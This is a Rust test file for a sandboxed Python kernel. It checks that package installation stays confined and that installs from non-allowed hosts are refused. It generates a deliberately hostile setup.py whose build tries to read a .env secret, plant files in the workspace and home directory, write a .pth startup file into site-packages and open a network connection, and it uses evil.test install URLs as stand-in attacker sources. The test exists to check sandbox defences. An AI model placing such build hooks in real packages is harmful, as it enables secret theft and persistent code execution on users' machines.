//! Packages of a sandboxed kernel: installed in a sandbox of their own, run in no other place.

use std::path::Path;

use crate::support::{Place, environment, equipped};

/// A package whose build tries what the build of a hostile one would.
fn hostile(place: &Place) -> String {
    let directory = place.workspace().join("hostile");
    std::fs::create_dir(&directory).unwrap();
    let canary = place.temporary().join("canary");
    let build = format!(
        r#"
import pathlib, socket, sys
from setuptools import setup

def attempt(name, action):
    try:
        action()
        print("attack", name, "done", file=sys.stderr)
    except Exception as error:
        print("attack", name, type(error).__name__, file=sys.stderr)

def plant(path):
    pathlib.Path(path).write_text(f"import os; open({{canary!r}}, 'a').write('run')")

canary = {canary:?}
workspace = pathlib.Path({workspace:?})
attempt("workspace", lambda: plant(workspace / "planted.py"))
attempt("generated", lambda: plant(workspace / "mcptools" / "planted.py"))
attempt("home", lambda: plant(pathlib.Path.home() / "planted.py"))
attempt("canary", lambda: plant(canary))
attempt("network", lambda: socket.create_connection(("127.0.0.1", 1), timeout=2))
attempt("secret", lambda: (workspace / ".env").read_text().index("SECRET"))
# This much an installation can do: what it leaves in the environment is the point of the rest of the test.
prefix = next(path for path in pathlib.Path({states:?}).rglob("python-sandboxed/lib/python3*/site-packages"))
attempt("planting", lambda: plant(prefix / "planted.pth"))
attempt("stale", lambda: next(prefix.glob("ipython-*.dist-info")).rename(prefix / "gone.dist-info"))
setup(name="hostile", version="1")
"#,
        workspace = place.workspace().display().to_string(),
        states = place.states().display().to_string(),
        canary = canary.display().to_string(),
    );
    std::fs::write(directory.join("setup.py"), build).unwrap();
    "./hostile".to_owned()
}

/// Whether there is a file of this name anywhere in the directory.
fn find(directory: &Path, name: &str) -> bool {
    let mut entries = std::fs::read_dir(directory).unwrap().map(Result::unwrap);
    entries.any(|entry| {
        let is_directory = entry.file_type().unwrap().is_dir();
        entry.file_name() == name || (is_directory && find(&entry.path(), name))
    })
}

fn holds(directory: &Path, name: &str) -> bool {
    directory.join(name).exists()
}

async fn check(backend: &str) {
    let place = Place::new();
    std::fs::write(place.workspace().join(".env"), "KEY=SECRET\n").unwrap();
    let path = equipped();
    let flags = ["--sandbox", "--sandbox-backend", backend, "--sandbox-install-domain", "allowed.test"];
    let mut ipybox = place.start_with(&flags, &[("PATH", &path)]).await;
    ipybox.initialize().await;
    // What would be obeyed in a working directory: with it nothing could be installed.
    let plant = ipybox.cell("open('uv.toml', 'w').write('no-index = true')").await.error();
    assert!(plant.contains("Read-only file system"), "{backend}: {plant}");
    std::fs::write(place.workspace().join("uv.toml"), "no-index = true").unwrap();
    // A real package from the index, which the kernel itself cannot reach.
    let installed = ipybox.install("cowsay").await;
    assert!(!installed.is_error, "{backend}: {}", installed.text);
    assert_eq!(ipybox.cell("import cowsay\nprint(cowsay.__name__)").await.ok(), "cowsay", "{backend}");
    let write = "import os\nopen(os.path.dirname(cowsay.__file__) + '/planted.py', 'w')";
    assert!(ipybox.cell(write).await.text.contains("Read-only file system"), "{backend}");

    // A host that the caller chooses would be sent what the build can read.
    for package in ["x @ https://evil.test/x.whl", "git+https://evil.test/x", "x @ http://127.0.0.1:1/x.whl"]
    {
        let refused = ipybox.install(package).await.error();
        assert!(
            refused.contains("is neither the package index nor allowed beside it"),
            "{backend}: {refused}"
        );
        assert!(refused.contains("`--sandbox-install-domain "), "{backend}: {refused}");
    }
    let allowed = ipybox.install("x @ https://allowed.test/x.whl").await.error();
    assert!(!allowed.contains("package index nor"), "{backend}: {allowed}");

    let package = hostile(&place);
    let built = ipybox.install(&package).await;
    let text = built.text;
    ipybox.close_input();
    ipybox.ended().await;
    assert!(find(&place.states(), "planted.pth"), "{backend}: the package did not attack\n{text}");
    let home = environment()["HOME"].clone();
    for (directory, name) in [
        (place.workspace(), "planted.py"),
        (place.workspace().join("mcptools"), "planted.py"),
        (home.into(), "planted.py"),
        (place.temporary(), "canary"),
    ] {
        assert!(!holds(&directory, name), "{backend}: {} in {}\n{text}", name, directory.display());
    }

    // What it has left does not run on the host at the next start, which makes the environment anew.
    let mut again = place.start_with(&flags, &[("PATH", &path)]).await;
    again.initialize().await;
    assert_eq!(again.cell("print(6 * 7)").await.ok(), "42", "{backend}");
    again.close_input();
    again.ended().await;
    assert!(!holds(&place.temporary(), "canary"), "{backend}: the host ran what was installed\n{text}");
}

#[tokio::test]
async fn packages_are_installed_and_run_inside_only_with_srt() {
    check("srt").await;
}

#[tokio::test]
async fn packages_are_installed_and_run_inside_only_with_bwrap() {
    check("bwrap").await;
}

#[tokio::test]
async fn a_package_that_replaces_what_ipybox_needs_costs_no_other() {
    let place = Place::new();
    let path = equipped();
    let start = async || {
        let flags = ["--sandbox", "--sandbox-backend", "bwrap"];
        let mut ipybox = place.start_with(&flags, &[("PATH", &path)]).await;
        ipybox.initialize().await;
        ipybox
    };
    let mut ipybox = start().await;
    for package in ["cowsay", "pydantic<2.12"] {
        let installed = ipybox.install(package).await;
        assert!(!installed.is_error, "{}", installed.text);
    }
    ipybox.stop().await;
    let mut again = start().await;
    let versions = "import cowsay, pydantic\nprint(pydantic.VERSION.rpartition('.')[0])";
    assert_eq!(again.cell(versions).await.ok(), "2.11");
    again.stop().await;
}
